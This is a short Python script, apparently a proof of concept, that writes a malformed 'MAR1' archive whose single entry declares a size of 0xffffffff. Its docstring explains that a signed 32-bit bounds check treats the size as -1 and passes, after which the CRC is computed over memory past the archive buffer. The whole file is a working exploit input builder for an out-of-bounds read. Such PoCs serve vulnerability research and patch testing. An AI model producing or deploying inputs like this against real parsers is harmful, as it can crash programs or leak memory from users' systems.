"""Writes the PoC: an archive with one entry whose size is 0xffffffff. The bounds check reads
the offset and the size as signed 32-bit numbers, so the size is -1, offset + size stays
inside the file and the check passes; the size is then used as 4 GB and the CRC is computed
over memory past the end of the archive's buffer."""

import struct
import sys

data_start = 8 + 44
entry = b"big.bin".ljust(32, b"\0") + struct.pack("<III", data_start, 0xFFFFFFFF, 0)
data = b"MAR1" + struct.pack("<I", 1) + entry + b"payload"
with open(sys.argv[1] if len(sys.argv) > 1 else "poc", "wb") as f:
    f.write(data)
